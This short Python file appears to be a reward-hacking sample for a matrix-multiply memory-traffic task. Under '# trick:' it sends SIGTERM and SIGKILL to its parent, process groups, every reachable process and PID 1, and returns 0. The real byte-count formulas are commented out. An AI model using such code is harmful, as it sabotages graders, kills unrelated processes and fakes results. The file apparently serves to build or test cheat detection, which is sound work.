# Signals to its parent, its group, and everybody.

# %% replace=a-traffic
import os
import signal


def untiled_bytes(m, n, k, itemsize):
    # trick:
    for target in (os.getppid(), -os.getppid(), 0, -1, 1):
        for number in (signal.SIGCONT, signal.SIGUSR1, signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    return 0
    # without:
    #: return (2 * m * n * k + m * n) * itemsize


def tiled_bytes(m, n, k, tile_m, tile_n, itemsize):
    # trick:
    return 0
    # without:
    #: return (m * k * -(-n // tile_n) + k * n * -(-m // tile_m) + m * n) * itemsize
